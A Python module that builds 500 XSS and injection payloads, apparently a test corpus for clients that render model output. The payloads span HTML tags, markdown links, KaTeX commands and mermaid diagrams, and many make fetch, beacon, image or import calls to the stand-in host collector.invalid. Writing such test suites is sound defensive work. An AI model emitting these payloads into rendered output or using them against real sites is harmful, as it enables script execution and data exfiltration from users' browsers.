"""Five hundred texts that would run a script, send a request or open a dialog in a client that believes what a model writes."""

from __future__ import annotations

from itertools import cycle, islice, product

TARGET = "http://collector.invalid/"
"""Whoever asks this host for anything has leaked something."""

_CALLS = (
    "alert(1)",
    "window.__hit=1",
    f"fetch('{TARGET}f')",
    "print()",
    f"new Image().src='{TARGET}i'",
    f"navigator.sendBeacon('{TARGET}b')",
    f"location='{TARGET}l'",
    f"import('{TARGET}m.js')",
    f"open('{TARGET}o')",
)

_TAGS = (
    "<script>{call}</script>",
    "<script src={target}s.js></script>",
    "<SCRIPT\n>{call}</SCRIPT >",
    "<img src=x onerror={call}>",
    '<img src="{target}x.png">',
    "<img src=x onerror={call}//",
    '<img srcset="{target}x.png 1x">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href={target}u.svg#a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}></style>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}></iframe>",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    "<iframe src={target}></iframe>",
    "<object data={target}></object>",
    "<embed src={target}>",
    "<video src={target}v.mp4 autoplay onerror={call}></video>",
    "<audio src={target}a.mp3 autoplay></audio>",
    "<video poster={target}p.png></video>",
    "<link rel=stylesheet href={target}c.css>",
    "<link rel=prefetch href={target}>",
    "<meta http-equiv=refresh content='0;url={target}'>",
    "<base href={target}>",
    "<style>@import '{target}c.css'; * {{ background: url({target}b.png) }}</style>",
    '<div style="background:url({target}b.png)">x</div>',
    "<form action={target}><input name=a autofocus onfocus={call}></form>",
    "<input type=image src={target}x.png>",
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<a href=javascript:{call}>x</a>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<p id=x onmouseover={call} tabindex=0 onfocus={call} autofocus>hover</p>",
    "<select onfocus={call} autofocus></select>",
    "<button onclick={call} autofocus>press</button>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<xss onpointerrawupdate={call} style=display:block>x</xss>",
    "<dialog open onclose={call}>x</dialog>",
    "<input popovertarget=x><div popover id=x onbeforetoggle={call}>x</div>",
)

_MARKDOWN = (
    "[a](javascript:{call})",
    "[a](JaVaScRiPt:{call})",
    "[a]( javascript:{call} )",
    "[a](&#106;avascript:{call})",
    "[a](java\tscript:{call})",
    "[a](data:text/html,<script>{call}</script>)",
    "[a](vbscript:{call})",
    "[a](blob:{target})",
    "[a](//collector.invalid/x)",
    "<javascript:{call}>",
    "[r]\n\n[r]: javascript:{call}",
    '[a](https://example.invalid/" onmouseover="{call})',
    "[a](https://example.invalid 'x\" onclick=\"{call}')",
    "![i]({target}i.png)",
    "![i](data:image/svg+xml,<svg onload={call}>)",
    "![i](javascript:{call})",
    "![i]({target}?q=secret 'title')",
    "[![i]({target}i.png)]({target})",
    "![r]\n\n[r]: {target}r.png",
    "`` <img src=x onerror={call}> ``",
    "```html\n<img src=x onerror={call}>\n```",
    '```"><img src=x onerror={call}>\ncode\n```',
    "| <img src=x onerror={call}> | b |\n|---|---|\n| <script>{call}</script> | ![i]({target}t.png) |",
    "- <img src=x onerror={call}>\n  - [a](javascript:{call})",
    "> <svg onload={call}>\n\n1. <iframe src={target}>",
    "# <img src=x onerror={call}>",
    "<div>\n\n[a](javascript:{call})\n\n</div>",
    "&lt;img src=x onerror={call}&gt;",
    "\\<img src=x onerror={call}\\>",
    "[a](https://example.invalid/){{onclick={call}}}",
    "<https://example.invalid/<img src=x onerror={call}>>",
    "~~<img src=x onerror={call}>~~ **<svg onload={call}>**",
    "[^1]: <img src=x onerror={call}>",
    "<img src='a\n\n' onerror={call}>",
)

_FORMULAS = (
    "$\\href{{javascript:{call}}}{{x}}$",
    "$\\url{{javascript:{call}}}$",
    "$$\\includegraphics{{{target}k.png}}$$",
    '$\\htmlClass{{x" onclick={call}}}{{y}}$',
    "$\\htmlStyle{{background:url({target}k.png)}}{{y}}$",
    "$\\htmlData{{x={call}}}{{y}}$",
    "\\(\\text{{<img src=x onerror={call}>}}\\)",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "\\[\\unicode{{<script>{call}</script>}}\\]",
)

_DIAGRAMS = (
    "```mermaid\ngraph TD\n  A[<img src=x onerror={call}>] --> B\n```",
    '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:{call}"\n```',
    "```mermaid\ngraph TD\n  A --> B\n  click A call {call}\n```",
    '```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\ngraph TD\n  A --> B\n```',
    '```mermaid\n%%{{init: {{"themeCSS": "* {{ background: url({target}m.png) }}"}}}}%%\ngraph TD\n  A --> B\n```',
    "```mermaid\nsequenceDiagram\n  A->>B: <script>{call}</script>\n```",
    '```mermaid\ngraph TD\n  A["<iframe src={target}>"]\n```',
    '```mermaid\ngraph TD\n  A@{{ img: "{target}n.png", label: "x" }}\n```',
)


def payloads(count: int = 500) -> list[str]:
    """Every template at least once, then more of them with other calls, until there are ``count``."""
    templates = (*_TAGS, *_MARKDOWN, *_FORMULAS, *_DIAGRAMS)
    made = dict.fromkeys(template.format(call=call, target=TARGET) for call, template in product(_CALLS, templates))
    first = dict.fromkeys(template.format(call=call, target=TARGET) for template, call in zip(templates, cycle(_CALLS), strict=False))
    return list(islice(first | made, count))
